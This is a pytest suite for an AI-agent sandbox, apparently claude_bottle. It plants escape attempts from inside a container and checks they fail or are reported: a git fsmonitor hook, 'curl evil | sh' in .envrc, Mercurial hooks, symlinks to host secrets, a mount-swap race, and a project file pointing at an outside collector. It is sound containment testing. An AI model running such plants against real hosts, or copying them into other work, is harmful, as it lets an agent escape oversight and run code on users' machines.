"""What a bottle writes into its workspace is not trusted by the host: attacks planted from inside a real
bottle, then checked in the next run and on the host (with host git in a home of the test's own).

The project file is used only once approved and never for forbidden keys; .git is read-only as a whole and
cannot be renamed, replaced or created; files that run code on the host are read-only where they exist and
reported (and the workspace held for review) where a bottle changed them; symlinks are never mounted.
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from claude_bottle.agent.load import load_agent
from claude_bottle.credentials import Credential
from claude_bottle.gate.settings import parse_upstream
from claude_bottle.launch import Launch, started
from claude_bottle.runtime import run as run_module
from claude_bottle.runtime.run import Run
from claude_bottle.verify.standins import in_bottle as inside
from tests.bottle.conftest import Upstream, leftovers, write_agent

pytestmark = pytest.mark.docker
CLI = [sys.executable, "-P", "-m", "claude_bottle"]
AGENT_UID = 1000  # the bottle's user when the tests run as root


def cli(*args: str, cwd: Path, upstream: Upstream | None = None) -> subprocess.CompletedProcess[str]:
    flags = ["--upstream", upstream.url, "--upstream-network", upstream.network] if upstream else []
    return subprocess.run([*CLI, *args, *flags], capture_output=True, text=True, timeout=240, cwd=cwd,
                          stdin=subprocess.DEVNULL)


def give_to_agent(path: Path) -> None:
    """Files the test made on the host, owned by the bottle's user as a user's own project would be."""
    if os.getuid() == 0:
        os.lchown(path, AGENT_UID, AGENT_UID)
        for root, dirs, files in os.walk(path):
            for name in [root, *(os.path.join(root, n) for n in dirs + files)]:
                os.lchown(name, AGENT_UID, AGENT_UID)


def make_repository(path: Path) -> None:
    git = ["git", "-c", "user.name=u", "-c", "user.email=u@example.com", "-C", str(path)]
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    (path / "README").write_text("hello\n")
    subprocess.run([*git, "add", "README"], check=True)
    subprocess.run([*git, "commit", "-qm", "first"], check=True)
    give_to_agent(path)


@contextlib.contextmanager
def bottle(workspace: Path, token: str, upstream: Upstream, reports: list[str] | None = None) -> Iterator[Run]:
    """A sleeping bottle of a user agent (the project file plays no part) on ``workspace``."""
    write_agent("trusty", "")
    launch = Launch(load_agent("trusty", workspace), workspace, Credential.parse(token, "test"),
                    parse_upstream(upstream.url), (upstream.network,))
    with started(launch, (reports if reports is not None else []).append) as run:
        run.create_bottle(["sleep", "600"], tty=False)
        run.engine.start(run.names.bottle)
        yield run


class HostGit:
    """git as the user runs it on the host, with a home of the test's own that trusts every repository's
    ownership (so only the protections can stop a planted command), and a canary a planted command touches."""

    def __init__(self, root: Path) -> None:
        self.home = root / "home"
        self.home.mkdir()
        (self.home / ".gitconfig").write_text("[safe]\n\tdirectory = *\n")
        self.canary = root / "canary"

    @property
    def hostile_config(self) -> str:
        return f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = touch {self.canary}\n"

    def status(self, where: Path) -> subprocess.CompletedProcess[str]:
        env = {"HOME": str(self.home), "PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1"}
        return subprocess.run(["git", "status"], cwd=where, env=env, capture_output=True, text=True, timeout=60)


@pytest.fixture
def host_git(tmp_path: Path) -> HostGit:
    return HostGit(tmp_path)


# ---- the project file ------------------------------------------------------------------------------------

def test_a_planted_project_file_is_refused_and_forbidden_keys_stay_refused_after_trust(
    client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
) -> None:
    secret = tmp_path / "secret-dir"
    secret.mkdir()
    planted = (f'version = 1\nupstream = "https://collector.example"\n'
               f'[[mounts]]\nsource = "{secret}"\ntarget = "/loot"\n')
    with bottle(workspace, token, upstream) as run:
        assert inside(run, "cat > /workspace/.claude-bottle.toml", stdin=planted)[0] == 0
    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
    assert result.returncode == 2 and ".claude-bottle.toml: upstream: not allowed in a project file" in result.stderr
    trusted = cli("trust", str(workspace), "--yes", cwd=workspace)
    assert trusted.returncode == 2 and "not allowed in a project file" in trusted.stderr
    (workspace / ".claude-bottle.toml").write_text(planted.replace('upstream = "https://collector.example"\n', ""))
    assert cli("trust", str(workspace), "--yes", cwd=workspace).returncode == 2, "mounts are refused as well"
    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
    assert result.returncode == 2 and "mounts: not allowed in a project file" in result.stderr
    assert leftovers(client, "default") == [], "nothing was started"


def test_a_project_file_changed_by_a_bottle_or_made_a_symlink_is_refused(
    client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path,
) -> None:
    (workspace / ".claude-bottle.toml").write_text('version = 1\nallow = ["docs.example.com"]\n')
    give_to_agent(workspace / ".claude-bottle.toml")
    approved = cli("trust", str(workspace), "--yes", cwd=workspace)
    assert approved.returncode == 0 and "docs.example.com" in approved.stdout
    with bottle(workspace, token, upstream) as run:
        assert inside(run, "echo 'presets = [\"npm\", \"pypi\"]' >> /workspace/.claude-bottle.toml")[0] == 0
    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
    assert result.returncode == 2 and "changed since you approved it" in result.stderr
    assert f"claude-bottle trust {workspace}" in result.stderr
    with bottle(workspace, token, upstream) as run:
        assert inside(run, "ln -sf /etc/hostname /workspace/.claude-bottle.toml")[0] == 0
    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
    assert result.returncode == 2 and ".claude-bottle.toml is a symlink" in result.stderr
    assert leftovers(client, "default") == []


# ---- .git --------------------------------------------------------------------------------------------------

def test_the_bottle_cannot_make_host_git_run_its_command(
    upstream: Upstream, token: str, workspace: Path, host_git: HostGit,
) -> None:
    make_repository(workspace)
    reports: list[str] = []
    with bottle(workspace, token, upstream, reports) as run:
        assert inside(run, "mkdir -p /workspace/evil && cat > /workspace/evil/config", stdin=host_git.hostile_config)[0] == 0
        attacks = {
            "commondir": "printf '../evil\\n' > /workspace/.git/commondir",
            "config": "cat /workspace/evil/config >> /workspace/.git/config",
            "rename": "mv /workspace/.git /workspace/.git-old",
            "replace": "rm -rf /workspace/.git",
            "index": "cd /workspace && git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
        }
        for name, script in attacks.items():
            code, output = inside(run, script)
            assert code != 0, f"{name} worked: {output}"
        # a nested repository with the hostile config can still be made: it is watched, not prevented
        assert inside(run, "git init -q /workspace/sub && cp /workspace/evil/config /workspace/sub/.git/config")[0] == 0
        assert host_git.status(workspace).returncode == 0
        assert not host_git.canary.exists(), "host git ran a command the bottle planted, during the run"
    assert host_git.status(workspace).returncode == 0
    assert not host_git.canary.exists(), "host git ran a command the bottle planted"
    assert "sub/.git" in reports[-1], "the nested repository is reported"
    held = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
    assert held.returncode == 2 and "sub/.git: created" in held.stderr


def test_a_workspace_without_git_cannot_get_one(
    upstream: Upstream, token: str, workspace: Path, host_git: HostGit,
) -> None:
    """Not while another run on it ends either: the empty .git the engine made on the host is the mount point
    of every bottle there, and removed under a running one, the kernel would take its read-only mount off."""
    subprocess.run(["rm", "-rf", str(workspace / ".git")], check=True)
    plant = f"cd /workspace && git init -q . && git config core.fsmonitor 'touch {host_git.canary}'"
    first = bottle(workspace, token, upstream)
    first.__enter__()
    try:
        with bottle(workspace, token, upstream) as run:
            first.__exit__(None, None, None)
            first = contextlib.nullcontext()  # type: ignore[assignment]
            code, output = inside(run, plant)
            assert code != 0, f"git init worked once the other run had ended: {output}"
            during = host_git.status(workspace)  # the engine made an empty .git for the mount point meanwhile
            assert during.returncode == 128 and "not a git repository" in during.stderr
    finally:
        first.__exit__(None, None, None)
    assert not host_git.canary.exists()
    assert not (workspace / ".git").exists(), "the empty mount point is removed after the run"
    assert host_git.status(workspace).returncode == 128 and not host_git.canary.exists()


def test_a_gitfile_is_read_only_and_cannot_be_replaced(
    upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
) -> None:
    subprocess.run(["rm", "-rf", str(workspace / ".git")], check=True)
    (workspace / ".git").write_text(f"gitdir: {tmp_path}/main/.git/worktrees/project\n")
    give_to_agent(workspace / ".git")
    with bottle(workspace, token, upstream) as run:
        for script in ("echo 'gitdir: /workspace/evil' > /workspace/.git", "rm -f /workspace/.git",
                       "mv /workspace/.git /workspace/gitfile-old"):
            code, output = inside(run, script)
            assert code != 0, f"{script} worked: {output}"
    assert (workspace / ".git").read_text() == f"gitdir: {tmp_path}/main/.git/worktrees/project\n"


def test_ordinary_git_and_claude_code_work_with_a_read_only_git(
    upstream: Upstream, token: str, workspace: Path,
) -> None:
    subprocess.run(["rm", "-rf", str(workspace / ".git")], check=True)
    make_repository(workspace)
    (workspace / "README").write_text("hello\nmore\n")
    with bottle(workspace, token, upstream) as run:
        code, output = inside(run, "cd /workspace && git status --short && git log --oneline && git diff --stat")
        assert code == 0 and "M README" in output and "first" in output and "1 file changed" in output, output
        code, output = inside(run, "cd /workspace && git commit -qam change")
        assert code != 0 and "Read-only file system" in output, "history is read-only to the bottle"
    result = cli("run", "-p", "run: git -C /workspace log --format=%s -1", cwd=workspace, upstream=upstream)
    assert result.returncode == 0 and "Tool said: first" in result.stdout, result.stderr


def test_symlinks_in_git_and_protected_paths_are_never_mounted(
    upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "settings.json").write_text("host-secret\n")
    (secret / "token").write_text("host-secret\n")
    # what an unprotected bottle could leave in .git; it cannot write .git any more
    (workspace / ".git" / "config").unlink()
    (workspace / ".git" / "config").symlink_to(secret / "token")
    (workspace / ".git" / "hooks").rmdir()
    (workspace / ".git" / "hooks").symlink_to(secret)
    with bottle(workspace, token, upstream) as run:
        for link, target in ((".envrc", secret / "token"), (".vscode", secret), (".claude", secret),
                             (".mcp.json", secret / "token"), ("sub/.git", secret)):
            assert inside(run, f"mkdir -p /workspace/sub && ln -s {target} /workspace/{link}")[0] == 0
    assert cli("trust", str(workspace), "--yes", cwd=workspace).returncode == 0
    with bottle(workspace, token, upstream) as run:
        shown = run.engine.container(run.names.bottle)
        assert shown is not None
        sources = list(shown.mounts.values())
        assert not [s for s in sources if s.startswith(str(secret))], sources
        code, output = inside(run, "cat /workspace/.envrc /workspace/.claude/settings.json /workspace/.git/config "
                                   "/workspace/.git/hooks/token /workspace/.mcp.json /workspace/sub/.git/token")
        assert "host-secret" not in output and code != 0


def test_a_running_bottle_cannot_turn_the_next_ones_mounts_to_the_host(
    upstream: Upstream, token: str, workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Two bottles on one workspace (parallel SDK queries with one cwd): the first makes .vscode, which the
    second's start finds a real folder and mounts read-only by its path. The first swaps it for a symlink to a
    host folder right after the second's check, as it could by luck at any start: were it not paused until
    the second runs, the engine would follow the link and mount the host folder into the second."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "canary").write_text("host-secret\n")
    go, swapped = workspace / "go", workspace / "swapped"
    swap = (f"while [ ! -e /workspace/go ]; do sleep 0.01; done; mv /workspace/.vscode /workspace/.old && "
            f"ln -s {secret} /workspace/.vscode && touch /workspace/swapped")
    checked = run_module.protective_mounts

    def checked_then_swapped(*args: object, **kwargs: object) -> object:
        found = checked(*args, **kwargs)  # type: ignore[arg-type]
        if first_running:
            go.touch()
            deadline = time.monotonic() + 3
            while not swapped.exists() and time.monotonic() < deadline:
                time.sleep(0.02)
        return found

    first_running = False
    monkeypatch.setattr(run_module, "protective_mounts", checked_then_swapped)
    with bottle(workspace, token, upstream) as first:
        assert inside(first, f"mkdir /workspace/.vscode && (setsid sh -c '{swap}' >/dev/null 2>&1 &)")[0] == 0
        first_running = True
        with bottle(workspace, token, upstream) as second:
            code, output = inside(second, "cat /workspace/.vscode/canary")
            assert "host-secret" not in output and code != 0
            deadline = time.monotonic() + 10
            while not swapped.exists() and time.monotonic() < deadline:
                time.sleep(0.05)
            assert swapped.exists(), "the first bottle runs again once the second has started"
            assert inside(second, "cat /workspace/.vscode/canary")[0] != 0


# ---- files that run code on the host ---------------------------------------------------------------------

def test_changed_auto_run_files_are_reported_and_hold_the_workspace_until_trusted(
    client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
) -> None:
    canary = tmp_path / "helper-ran"  # on the host; the bottle has no such path
    plant = ("run: mkdir -p .vscode .claude pkg/.claude && echo '{}' > .vscode/settings.json && echo 'curl x | sh' > .envrc "
             "&& echo '{\"hooks\": {}}' > .claude/settings.json && echo '{\"hooks\": {}}' > pkg/.claude/settings.json "
             "&& mkdir .hg && printf '[hooks]\\npre-status = touch /tmp/owned\\n' > .hg/hgrc "
             f"&& mkdir -p tools && printf '#!/bin/sh\\ntouch {canary}\\necho 0123456789abcdef\\n' > tools/token-helper "
             "&& chmod +x tools/token-helper && echo planted")
    result = cli("run", "-p", plant, cwd=workspace, upstream=upstream)  # real Claude Code runs the command
    assert result.returncode == 0 and "Tool said: planted" in result.stdout, result.stderr
    assert "these files can run code on your machine" in result.stderr
    for name in (".vscode/settings.json", ".envrc", ".claude/settings.json", "pkg/.claude/settings.json", ".hg/hgrc"):
        assert f"{name}: created" in result.stderr
    held = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
    assert held.returncode == 2 and ".envrc: created" in held.stderr
    assert f"claude-bottle trust {workspace}" in held.stderr
    assert leftovers(client, "default") == [], "nothing was started"
    # A credential's command that lies in a workspace where bottles have run is never run, from any workspace.
    other = tmp_path / "other"
    other.mkdir()
    write_agent("helped", f'[credentials.corp]\nhosts = ["git.corp.example"]\nscheme = "bearer"\n'
                          f'command = ["{workspace}/tools/token-helper"]\n')
    refused = cli("run", "helped", "-p", "hi", cwd=other, upstream=upstream)
    assert refused.returncode == 2 and "a workspace where bottles have run" in refused.stderr, refused.stderr
    assert (workspace / "tools" / "token-helper").exists() and not canary.exists()
    unconfirmed = cli("trust", str(workspace), cwd=workspace)
    assert unconfirmed.returncode == 2 and "--yes" in unconfirmed.stderr and ".envrc" in unconfirmed.stdout
    assert cli("run", "-p", "hi", cwd=workspace, upstream=upstream).returncode == 2
    assert cli("trust", str(workspace), "--yes", cwd=workspace).returncode == 0
    again = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
    assert again.returncode == 0 and "can run code" not in again.stderr, again.stderr


def test_existing_auto_run_files_are_read_only_in_the_bottle(
    upstream: Upstream, token: str, workspace: Path,
) -> None:
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "settings.json").write_text("{}\n")
    (workspace / ".envrc").write_text("export A=1\n")
    (workspace / ".hg").mkdir()
    (workspace / ".hg" / "hgrc").write_text("[paths]\n")
    (workspace / "vendor" / ".jj" / "repo").mkdir(parents=True)
    give_to_agent(workspace)
    reports: list[str] = []
    with bottle(workspace, token, upstream, reports) as run:
        for script in ("echo evil > /workspace/.envrc", "echo evil > /workspace/.vscode/tasks.json",
                       "rm /workspace/.vscode/settings.json", "mv /workspace/.vscode /workspace/vscode-old",
                       "rm /workspace/.envrc", "printf '[hooks]\\npre-status = touch /tmp/owned\\n' >> /workspace/.hg/hgrc",
                       "mv /workspace/.hg /workspace/hg-old",
                       "echo '[ui]' > /workspace/vendor/.jj/repo/config.toml", "rm -r /workspace/vendor/.jj"):
            code, output = inside(run, script)
            assert code != 0, f"{script} worked: {output}"
    assert (workspace / ".envrc").read_text() == "export A=1\n" and (workspace / ".hg" / "hgrc").read_text() == "[paths]\n"
    assert not (workspace / "vendor" / ".jj" / "repo" / "config.toml").exists()
    assert (workspace / ".vscode" / "settings.json").exists() and not (workspace / ".vscode" / "tasks.json").exists()
    assert not any("can run code" in line for line in reports)


@pytest.mark.parametrize("inside_pkg", [False, True], ids=["one workspace", "a package of it"])
def test_two_bottles_cannot_hide_a_planted_file_between_their_checks(
    client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path, inside_pkg: bool,
) -> None:
    """Parallel runs on one workspace (SDK queries with one cwd), or one on a monorepo and one on its package,
    both hijacked by what they read there: the first plants pkg/sub/.envrc (below the top level of both: watched,
    not mounted), the second starts with it there, the first takes it away before its run ends and the second
    puts it back before its own. Each bottle left the file as it found it at its own start; the second's
    workspace is still held, the file named. The package's bottle, with no .git of its own, gets an empty one:
    the monorepo run ending meanwhile does not flag it."""
    first_reports: list[str] = []
    second_reports: list[str] = []
    (workspace / "pkg" / "sub").mkdir(parents=True)
    for folder in (workspace / "pkg", workspace / "pkg" / "sub"):
        folder.chmod(0o777)  # the agent user (uid 1000) writes here
    second_workspace, seen = (workspace / "pkg", "sub/.envrc") if inside_pkg else (workspace, "pkg/sub/.envrc")
    planted = f"echo 'curl evil | sh' > /workspace/{seen}"
    with contextlib.ExitStack() as first_run:
        first = first_run.enter_context(bottle(workspace, token, upstream, first_reports))
        assert inside(first, "echo 'curl evil | sh' > /workspace/pkg/sub/.envrc")[0] == 0
        with bottle(second_workspace, token, upstream, second_reports) as second:
            assert inside(first, "rm /workspace/pkg/sub/.envrc")[0] == 0
            first_run.close()  # the first run ends, its check done
            assert not any("can run code" in line for line in first_reports), first_reports
            assert inside(second, planted)[0] == 0
    assert any(f"{seen}: created" in line for line in second_reports), second_reports
    assert (workspace / "pkg" / "sub" / ".envrc").exists()
    held = cli("run", "-p", "hi", cwd=second_workspace, upstream=upstream)
    assert held.returncode == 2 and f"{seen}: created" in held.stderr, held.stderr
    assert leftovers(client, "default") == [], "nothing was started"
